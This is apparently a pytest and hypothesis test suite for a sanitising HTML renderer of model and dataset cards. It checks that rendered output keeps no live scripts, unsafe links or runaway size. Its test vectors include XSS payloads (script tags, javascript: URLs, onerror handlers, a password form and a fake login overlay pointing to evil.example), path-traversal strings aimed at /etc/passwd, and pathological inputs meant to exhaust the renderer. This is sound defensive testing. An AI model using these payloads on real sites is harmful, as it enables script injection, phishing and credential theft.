"""A card's text is shown as HTML in which nothing of a stranger runs, loads or leads astray."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openness.cards.addresses import Place
from openness.rendering import ATTRIBUTES, TAGS, render
from registry.cards import CardText

PLACE = Place("model", "acme/tiny", "a1b2c3")
FILES = "https://huggingface.co/acme/tiny/resolve/a1b2c3/"


def html(text, place=PLACE):
    return render(CardText(body=text), place).html


class Seen(HTMLParser):
    """The tags and attributes of a piece of HTML, as a browser's first pass would see them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    handle_startendtag = handle_starttag


def assert_harmless(text):
    seen = Seen(text)
    assert seen.tags <= TAGS - {"img"}
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:")), value


VECTORS = [
    "<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "<a href='java\tscript:alert(1)'>a</a>",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action='https://evil.example'><input name=password></form>",
    "<details open ontoggle=alert(1)>a</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<div style='position:fixed;inset:0'><a href='https://evil.example'>log in</a></div>",
    "![tracker](https://evil.example/pixel.gif)",
    "<base href='https://evil.example/'>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='https://a.example' onclick=alert(1) id=top class=btn name=x target=_blank>a</a>",
    "`<script>`\n\n    <script>alert(1)</script>\n",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_a_script_vector_is_dead(vector):
    shown = html(f"Words.\n\n{vector}\n\nMore words with {vector} inside.\n")
    assert_harmless(shown)
    assert "Words." in shown


@given(
    st.lists(
        st.sampled_from([*VECTORS, "<b", ">", "\n\n", "](", "<!--", "-->", "'", '"', "&#x3c;", "<p>"]), max_size=12
    )
)
def test_no_mixture_of_vectors_comes_alive(parts):
    assert_harmless(html("".join(parts)))


@given(st.text(alphabet="<>/=\"' abhimgscriptonerrorjv:()[]!`&;#x3c\n\x00\u200b", max_size=120))
def test_no_text_at_all_gives_more_than_the_allowed_tags(text):
    assert_harmless(html(text))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("docs/use.md", FILES + "docs/use.md"),
        ("./a b.md", FILES + "a%20b.md"),
        ("../../../etc/passwd", FILES + "etc/passwd"),
        ("%2e%2e/%2e%2e/admin", FILES + "admin"),
        ("/docs/hub", "https://huggingface.co/docs/hub"),
        ("/admin/", "https://huggingface.co/admin/"),
        ("//example.org/x", "https://example.org/x"),
        ("\\\\example.org/x", "https://example.org/x"),
        ("https://example.org/?a=1&b=2#c", "https://example.org/?a=1&b=2#c"),
        ("mailto:ann@example.org", "mailto:ann@example.org"),
        ("use.md?x=1#y", FILES + "use.md?x=1#y"),
    ],
)
def test_a_link_leads_where_it_leads_on_the_hub(written, shown):
    seen = Seen(html(f"<a href='{written}'>a</a>"))
    assert ("a", "href", shown) in seen.attributes


@pytest.mark.parametrize(
    "written", ["#uses", "javascript:alert(1)", "https://", "http://[", "file:///etc/passwd", "https://a:99999/"]
)
def test_a_link_that_leads_nowhere_is_only_its_words(written):
    seen = Seen(html(f"<a href='{written}'>a</a>"))
    assert not [value for _, name, value in seen.attributes if name == "href"]


def test_every_link_says_that_we_do_not_vouch_for_it():
    assert 'rel="noopener noreferrer nofollow ugc"' in html("[a](https://example.org)")


def test_a_picture_is_a_link_to_it():
    shown = html("![a chart](charts/a.png)")
    assert "<img" not in shown
    assert f'<a href="{FILES}charts/a.png"' in shown
    assert ">a chart</a>" in shown


def test_a_picture_in_a_link_is_the_link_s_words():
    assert html("[![badge](b.svg)](https://example.org)").count("<a ") == 1


def test_a_dataset_s_files_have_their_own_address():
    shown = html("[a](a.md)", Place("dataset", "poems", "refs/pr/1"))
    assert "https://huggingface.co/datasets/poems/resolve/refs%2Fpr%2F1/a.md" in shown


def test_what_cards_use_is_kept():
    text = "# H\n\n**b** *i* `c` ~~d~~\n\n| a |\n|--:|\n| 1 |\n\n<details><summary>S</summary>\n\n- x\n\n</details>\n"
    shown = html(text)
    for tag in ("h1", "strong", "em", "code", "s", "table", "details", "summary", "li"):
        assert f"<{tag}" in shown
    assert '<td align="right">1</td>' in shown


HOSTILE = {
    "brackets": "[" * 512_000,
    "images": "![" * 100_000,
    "links that never close": "[a](" * 50_000,
    "emphasis": "a**bc* `" * 30_000,
    "blocks of brackets": ("[" * 9_000 + "\n\n") * 50,
    "a wide table": "|a" * 50_000 + "|\n" + "|-" * 50_000 + "|\n",
    "a long table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 80_000,
    "nested divs": "<div>" * 50_000,
    "formatting that each paragraph opens again": "".join(f"<b class=x{i}><p>" for i in range(1_400)),
    "long formatting": "".join(f"<b class='{'x' * 600}{i}'><p>" for i in range(400)),
    "ampersands": "&" * 200_000,
    "lists": "- a\n" * 80_000,
    "lists of emphasis": ("*a_ " * 2_000 + "\n\n") * 60,
    "quotes": "> " * 5_000 + "a",
    "comments": "<!--" * 60_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_is_shown_in_proportion(name):
    shown = html(HOSTILE[name])
    assert len(shown) < 20 * len(HOSTILE[name]) + 1_000
    assert_harmless(shown)


def test_what_was_left_out_or_shown_as_written_is_said():
    assert render(CardText(body="words\n\n" * 10_000), PLACE).flags == ("cut",)
    assert render(CardText(body="<div>" * 5_000), PLACE).flags == ("as_text",)
    assert render(CardText(body="words\n"), PLACE).flags == ()


def test_no_tag_keeps_an_attribute_that_is_not_its_own():
    assert 'title="' not in html('<p title="x" lang="en">words</p>')
